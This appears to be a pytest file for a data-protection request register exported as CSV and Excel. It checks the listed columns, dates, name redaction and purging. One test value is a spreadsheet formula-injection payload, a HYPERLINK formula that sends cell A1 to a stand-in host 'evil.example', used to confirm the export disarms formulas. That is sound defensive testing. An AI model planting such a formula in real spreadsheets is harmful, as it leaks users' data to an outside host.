"""The register of requests: what law.md A1 lists, no names unless asked, and no cell that runs."""

import csv
import sys
from datetime import date, datetime, timedelta
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

import cli
from models.database import reading, unit_of_work
from models.errors import Rejected
from models.letters import LetterKind
from models.register import COLUMNS, columns
from models.request_dates import renew
from models.rights import Right
from models.storage import keep
from models.tables import (
    ClockEvent,
    Decision,
    FindingRow,
    Letter,
    LetterState,
    ManualTask,
    Notification,
    Request,
    RequestState,
)
from tasks.figures.write_register import Format, register
from tasks.keeping.retain_rows import forget_person
from tests.support.case_rows import NOW, ON_FILE, add_case

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Camille")'
PERSONAL = ("Camille", "Durand", "mail.example", "Dana", "Secret", "Elay Admin", "evil.example", "Mailjet")
SINCE, UNTIL = date(2026, 9, 1), date(2026, 11, 30)
sqlite = pytest.mark.parametrize("db", ["sqlite"], indirect=True)


def fill() -> int:
    """One case with a bit of everything that A1 lists, refused late after an extension; its number."""
    received = NOW - timedelta(days=70)
    with unit_of_work() as session:
        case, [request] = add_case(session, Right.ERASURE, name=FORMULA, received_at=received)
        case.channel, case.identity_settled_at = "post", received + timedelta(days=2)
        case.identity_evidence = "Dana: Secret"
        session.add(
            ClockEvent(
                case_id=case.id,
                kind="extended",
                at=received + timedelta(days=20),
                reason="volume: Secret sentence about Camille",
                recorded_by="Dana",
            )
        )
        for kind, key, day in (
            (LetterKind.EXTENSION, f"{case.ref}:extension", 20),
            (LetterKind.REFUSAL, f"{request.ref}:reply", 40),
        ):
            session.add(
                Letter(
                    key=key,
                    case_id=case.id,
                    request_id=request.id,
                    kind=kind,
                    language="fr",
                    recipient=ON_FILE,
                    subject="",
                    message_id=f"<{kind}@nexoris.com>",
                    storage_key=keep("letters", kind.encode()),
                    sha256=f"hash-of-{kind}",
                    state=LetterState.SENT,
                    written_at=received,
                    sent_at=received + timedelta(days=day),
                )
            )
        _work(session, request, received)
        renew(session, case, NOW)
        return case.id


def _work(session: object, request: Request, at: datetime) -> None:
    add = session.add_all  # type: ignore[attr-defined]
    add(
        [
            FindingRow(
                request_id=request.id,
                round=1,
                system="site",
                status="found",
                records=3,
                to_review=2,
                searched_at=at,
            ),
            FindingRow(request_id=request.id, round=1, system="elay", status="none", searched_at=at),
            ManualTask(
                request_id=request.id,
                round=1,
                system="elay",
                person="Elay Admin",
                address="elay@mail.example",
                due_on=at.date(),
                token_hash="t",
            ),
            Decision(
                request_id=request.id,
                question="review",
                round=1,
                officer="Dana",
                choice="refuse",
                reason="Secret",
                accepted=True,
                content_hash="",
                answers={
                    "ground": "legal_duty",
                    "withhold": ["site.users.note", "site.document:Camille.pdf"],
                },
                decided_at=at + timedelta(days=39),
            ),
            Notification(request_id=request.id, recipient="Mailjet", at=at),
            Notification(request_id=request.id, recipient="Other", not_told_because="gone", at=at),
        ]
    )
    request.replied_at = request.closed_at = at + timedelta(days=40)
    request.state, request.outcome = RequestState.CLOSED, "refused"


def written(form: Format, *, names: bool = False, since: date = SINCE, until: date = UNTIL) -> bytes:
    with reading() as session:
        return register(session, since, until, form, NOW, language="en", names=names)


def cells(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(content.decode("utf-8-sig"))))


def test_the_register_says_what_the_law_sheet_lists(db: str) -> None:
    fill()
    [line] = cells(written("csv"))
    assert list(line) == [column.en for column in COLUMNS if not column.named]
    received = NOW - timedelta(days=70)
    assert line["Case"] == "DSR-2026-0001"
    assert line["Arrival (UTC)"] == f"{received:%Y-%m-%dT%H:%M:%SZ}"
    assert (line["Channel"], line["Right"], line["Received on"]) == ("post", "erasure", "2026-09-14")
    assert (line["Identity: method"], line["Identity: result"]) == ("officer", "settled")
    assert line["Clock"] == "received 2026-09-14; extended volume 2026-10-04"
    assert (line["30 days end"], line["Date in law"]) == ("2026-10-14", "2026-12-14")
    assert (line["Extended until"], line["Ground of extension"]) == ("2026-12-14", "volume")
    assert line["SHA-256 of the notice"] == "hash-of-extension"
    assert line["Systems searched"] == "site found 2026-09-14 (engine); elay none 2026-09-14 (colleague)"
    assert (line["Fields looked at for third parties"], line["Redactions"]) == ("2", "site 2")
    assert line["Decisions and grounds"] == "review refuse legal_duty 2026-10-23"
    assert (line["Recipients told"], line["Recipients not told"]) == ("1", "1")
    assert line["SHA-256 of the reply"] == "hash-of-refusal"
    assert line["Refusal told, Art. 12(4) (UTC)"] == line["Reply sent (UTC)"] == "2026-10-24T09:30:00Z"
    assert (line["Outcome"], line["Days"], line["Late"]) == ("refused", "40", "law"), "D14"
    assert line["Late: waited mostly for"] == "engine"


def test_no_cell_runs_and_nobody_is_named_unless_asked_for(db: str) -> None:
    fill()
    for form in ("csv", "xlsx"):
        plain = _all_text(written(form), form)
        assert not [name for name in PERSONAL if name in plain]
    [named] = cells(written("csv", names=True))
    assert named["Requester"] == f"'{FORMULA}", "a quote disarms it"
    assert named["Decided by"] == "Dana"
    assert named["Searched by"] == "elay: Elay Admin"
    book = load_workbook(BytesIO(written("xlsx", names=True)))
    values = {cell.value: cell.data_type for row in book.active.iter_rows() for cell in row}
    assert values[FORMULA] == "s", "a text, not a formula"
    assert "f" not in values.values()


def _all_text(content: bytes, form: str) -> str:
    if form == "csv":
        return content.decode("utf-8-sig")
    sheet = load_workbook(BytesIO(content)).active
    return " ".join(str(cell.value) for row in sheet.iter_rows() for cell in row)


@sqlite
def test_the_workbook_has_real_dates_and_a_frozen_head(db: str) -> None:
    fill()
    sheet = load_workbook(BytesIO(written("xlsx"))).active
    head = [cell.value for cell in sheet[1]]
    assert head == [column.en for column in columns(names=False)]
    assert (sheet.freeze_panes, sheet.max_row) == ("B2", 2)
    line = dict(zip(head, sheet[2], strict=True))
    assert line["Received on"].value == datetime(2026, 9, 14)  # noqa: DTZ001  # a spreadsheet knows no zone
    assert line["Received on"].number_format == "yyyy-mm-dd"
    assert line["Arrival (UTC)"].value == (NOW - timedelta(days=70)).replace(tzinfo=None)
    assert line["Days"].value == 40
    assert written("xlsx") == written("xlsx")


@sqlite
def test_a_purged_case_keeps_its_line_and_has_no_names_to_show(db: str) -> None:
    number = fill()
    with unit_of_work() as session:
        forget_person(session, number)
    said = written("csv", names=True).decode()
    assert not [name for name in PERSONAL if name in said]
    [line] = cells(written("csv"))
    assert (line["Case"], line["Ground of refusal"], line["SHA-256 of the reply"]) == (
        "DSR-2026-0001",
        "legal_duty",
        "hash-of-refusal",
    )


@sqlite
def test_the_period_is_of_receipt_and_both_days_count(db: str) -> None:
    fill()
    day = date(2026, 9, 14)
    assert len(cells(written("csv", since=day, until=day))) == 1
    assert cells(written("csv", since=day + timedelta(days=1))) == []
    assert cells(written("csv", until=day - timedelta(days=1))) == []
    with pytest.raises(Rejected):
        written("csv", since=UNTIL, until=SINCE)


def dsr(*arguments: str) -> int:
    """Run the command in this process; return its exit status."""
    sys.argv = ["dsr", *arguments]
    with pytest.raises(SystemExit) as ended:
        cli.main()
    return int(ended.value.code or 0)


@sqlite
def test_the_command_writes_a_file(db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    fill()
    for name, more in (("r.csv", ()), ("r.xlsx", ()), ("r.out", ("--format", "csv"))):
        file = tmp_path / name
        assert dsr("register", "--from", "2026-09-01", "--to", "2026-11-30", "-o", str(file), *more) == 0
        assert file.stat().st_size > 500
    assert dsr("register", "--from", "2026-09-01", "-o", str(tmp_path / "r.doc")) != 0
    assert "--format" in capsys.readouterr().err
